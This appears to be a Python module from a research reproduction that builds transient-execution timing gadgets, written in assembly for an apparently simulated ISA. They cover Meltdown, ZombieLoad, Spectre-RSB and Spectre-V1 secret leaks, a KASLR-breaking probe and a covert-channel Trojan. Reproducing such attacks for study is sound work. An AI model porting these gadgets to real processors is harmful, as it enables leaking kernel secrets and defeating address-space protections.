@@ -1,0 +1,291 @@
+"""TET gadget builders: Figure 1a, Listing 1, Listing 2 and friends.
+
+All gadgets are parameterised through registers so each is assembled and
+loaded once and then run many times:
+
+========  =====================================================
+register  meaning
+========  =====================================================
+``r9``    the test value being scanned (0..255)
+``r12``   pointer to an architecturally readable byte (TET-CC's
+          sender value, TET-RSB's transient-only secret)
+``r13``   the faulting / probed address
+``r14``   first ``rdtsc`` (written by the gadget)
+``r15``   second ``rdtsc`` (written by the gadget)
+``rsp``   stack top (TET-RSB only)
+========  =====================================================
+
+Every gadget follows the paper's measurement discipline: serialising
+timestamp reads around the transient block, and either a TSX transaction
+or a registered SIGSEGV handler to suppress the fault -- the two
+``transient_begin()`` strategies of Figure 1a.
+"""
+
+from __future__ import annotations
+
+import enum
+from typing import Optional
+
+from repro.isa.program import Program
+
+
+class Suppression(enum.Enum):
+    """How the gadget swallows the page fault."""
+
+    TSX = "tsx"
+    SIGNAL = "signal"
+
+
+#: Label the builders place where execution resumes after suppression.
+RESUME_LABEL = "tet_resume"
+
+
+class GadgetBuilder:
+    """Builds and loads the paper's gadgets for one machine."""
+
+    def __init__(self, machine, suppression: Optional[Suppression] = None) -> None:
+        self.machine = machine
+        if suppression is None:
+            suppression = Suppression.TSX if machine.model.has_tsx else Suppression.SIGNAL
+        if suppression is Suppression.TSX and not machine.model.has_tsx:
+            raise ValueError(f"{machine.model.name} has no TSX")
+        self.suppression = suppression
+
+    # -- assembly plumbing -------------------------------------------------------
+
+    def _wrap_transient(self, transient_block: str, prologue: str = "") -> str:
+        """Wrap *transient_block* in the rdtsc/suppression scaffolding."""
+        if self.suppression is Suppression.TSX:
+            return f"""
+{prologue}
+    rdtsc
+    mov r14, rax            ; start_time = rdtsc()
+    xbegin {RESUME_LABEL}    ; transient_begin()
+{transient_block}
+    xend
+{RESUME_LABEL}:
+    rdtsc
+    mov r15, rax            ; spend_time = rdtsc() - start_time
+    hlt
+"""
+        return f"""
+{prologue}
+    rdtsc
+    mov r14, rax            ; start_time = rdtsc()
+{transient_block}
+    nop                      ; never reached architecturally
+{RESUME_LABEL}:              ; SIGSEGV handler lands here
+    rdtsc
+    mov r15, rax
+    hlt
+"""
+
+    def _load(self, source: str) -> Program:
+        program = self.machine.load_program(source)
+        if self.suppression is Suppression.SIGNAL:
+            self.machine.set_signal_handler(program, RESUME_LABEL)
+        return program
+
+    # -- the gadgets ----------------------------------------------------------------
+
+    def figure1(self) -> Program:
+        """The Figure 1a gadget (TET-CC).
+
+        The compared byte is *architectural* (loaded from ``[r12]`` before
+        the window): the channel transmits the Jcc outcome, not a leaked
+        value.  The faulting access at ``[r13]`` (the paper uses address
+        0) only opens the transient window.
+        """
+        transient = """
+    load r8, [r13]          ; *(char*)(0x0) -- opens the window
+    cmp rbx, r9             ; if (test_value == sent_byte)
+    jne fig1_skip
+    nop                     ;     asm("nop")
+fig1_skip:"""
+        prologue = """
+    loadb rbx, [r12]        ; the sender's byte, read architecturally
+    mfence"""
+        return self._load(self._wrap_transient(transient, prologue))
+
+    def meltdown(self) -> Program:
+        """TET-MD: the Jcc consumes the *transiently forwarded* kernel byte.
+
+        Identical shape to Figure 1a, but the compare reads ``r8`` -- the
+        destination of the faulting load -- so only a Meltdown-vulnerable
+        pipeline produces a test-value-dependent branch.
+        """
+        transient = """
+    loadb r8, [r13]         ; kernel secret, forwarded transiently
+    cmp r8, r9              ; if (secret == test_value)
+    jne md_skip
+    nop
+md_skip:"""
+        return self._load(self._wrap_transient(transient))
+
+    def zombieload(self, sled: int = 32) -> Program:
+        """TET-ZBL: the match *skips* a nop sled, shortening the window.
+
+        The faulting load samples a stale line-fill-buffer byte (no
+        address control).  On a match the ``je`` jumps past the sled, so
+        fewer uops are in flight when the flush drains the ROB -- the ToTE
+        gets *shorter*, the opposite sign to TET-MD, exactly as §4.3.2
+        reports.  Decode with the argmin decoder.
+        """
+        nops = "\n".join("    nop" for _ in range(sled))
+        transient = f"""
+    loadb r8, [r13]         ; faulting load -> LFB stale data
+    cmp r8, r9
+    je zbl_end              ; match: skip the sled (shorter ToTE)
+{nops}
+zbl_end:"""
+        return self._load(self._wrap_transient(transient))
+
+    def spectre_rsb(self, sled: int = 24) -> Program:
+        """TET-RSB, the paper's Listing 1.
+
+        ``call`` pushes the return site onto the RSB; the trampoline
+        overwrites the architectural return address with ``@rsb_final``
+        and flushes it, so ``ret`` resolves late and transiently executes
+        the return-site gadget.  On a match the trained-taken ``jne``
+        mispredicts into the nop sled, inflating the wrong-path drain the
+        eventual redirect must perform -- ToTE is *maximal* at the secret
+        value, matching Listing 1's ``argmax``.
+        """
+        nops = "\n".join("    nop" for _ in range(sled))
+        source = f"""
+    lfence
+    rdtsc
+    mov r14, rax            ; start_time
+    call rsb_tramp
+rsb_ret_site:               ; transient return target (stale RSB entry)
+    loadb r8, [r12]         ; access secret (transient only)
+    cmp r8, r9              ; if (test_value == *secret)
+    jne rsb_skip
+{nops}
+rsb_skip:
+    lfence                  ; plug transient issue until the window closes
+rsb_tramp:
+    mov rax, @rsb_final     ; movabs $2f, %rax
+    mov [rsp], rax          ; overwrite the return address
+    clflush [rsp]           ; push resolution out to DRAM
+    ret                     ; RSB mispredicts back to rsb_ret_site
+rsb_final:
+    lfence
+    rdtsc
+    mov r15, rax
+    hlt
+"""
+        return self.machine.load_program(source)
+
+    def spectre_v1(self, sled: int = 24) -> Program:
+        """TET-Spectre-V1 (extension): bounds-check bypass + TET.
+
+        The classic v1 window -- a bounds check whose length operand is
+        flushed resolves late, and the trained-in-bounds branch lets an
+        out-of-bounds index transiently index past the array -- with the
+        TET channel inside instead of a cache probe.  Registers: ``r10``
+        array base, ``r11`` pointer to the (flushed) length, ``rdi`` the
+        index, ``r9`` the test value.
+        """
+        nops = "\n".join("    nop" for _ in range(sled))
+        source = f"""
+    clflush [r11]           ; push the bounds out to DRAM
+    mfence
+    rdtsc
+    mov r14, rax
+    mov rax, [r11]          ; array length (slow)
+    cmp rdi, rax
+    jnc v1_out              ; bounds check: index >= len skips
+    mov rbx, r10
+    add rbx, rdi
+    loadb r8, [rbx]         ; array[index] -- OOB only transiently
+    cmp r8, r9
+    jne v1_skip
+{nops}
+v1_skip:
+    lfence                  ; plug transient issue until the window closes
+v1_out:
+    lfence
+    rdtsc
+    mov r15, rax
+    hlt
+"""
+        return self.machine.load_program(source)
+
+    def kaslr_probe(self) -> Program:
+        """TET-KASLR's probe (the paper's Listing 2 shape).
+
+        A faulting load of the candidate address, a Jcc on the transient
+        value, and the timestamp pair.  The ToTE difference between
+        TLB-cacheable (mapped) and walk-every-time (unmapped) candidates
+        is the mapped-address oracle.
+        """
+        transient = """
+    load r8, [r13]          ; probe the candidate kernel address
+    cmp r8, r9
+    jz kaslr_skip           ; Listing 2's jz
+    nop
+kaslr_skip:"""
+        prologue = "    mfence"
+        return self._load(self._wrap_transient(transient, prologue))
+
+    def nop_loop(self, iterations: int = 64) -> Program:
+        """The §4.4 spy loop: timed nops, no memory traffic."""
+        body = "\n".join("    nop" for _ in range(8))
+        return self.machine.load_program(f"""
+    rdtsc
+    mov r14, rax
+    mov rcx, {iterations}
+spy_loop:
+{body}
+    sub rcx, 1
+    cmp rcx, 0
+    jne spy_loop
+    rdtsc
+    mov r15, rax
+    hlt
+""")
+
+    def fault_burst(self, faults: int = 4) -> Program:
+        """The §4.4 Trojan's '1' symbol: suppressed page faults in a row."""
+        blocks = []
+        for index in range(faults):
+            blocks.append(f"""
+    xbegin trojan_resume_{index}
+    load r8, [r13]          ; fault -> pipeline flush on shared core
+    nop
+trojan_resume_{index}:""")
+        body = "\n".join(blocks)
+        if self.suppression is Suppression.SIGNAL:
+            # One shared landing pad cannot express a burst without TSX;
+            # chain single faults through the handler instead.
+            source = f"""
+    mov rcx, {faults}
+trojan_loop:
+    load r8, [r13]
+    nop
+{RESUME_LABEL}:
+    sub rcx, 1
+    cmp rcx, 0
+    jne trojan_loop
+    hlt
+"""
+            program = self.machine.load_program(source)
+            self.machine.set_signal_handler(program, RESUME_LABEL)
+            return program
+        return self.machine.load_program(f"""
+{body}
+    hlt
+""")
+
+    def idle_loop(self, iterations: int = 32) -> Program:
+        """The Trojan's '0' symbol: plain computation.
+
+        Straight-line (unrolled) adds: a loop's exit mispredict would
+        itself disturb the shared pipeline and blur the 0/1 symbols.
+        """
+        adds = "\n".join("    add rax, 1" for _ in range(iterations))
+        return self.machine.load_program(f"""
+{adds}
+    hlt
+""")
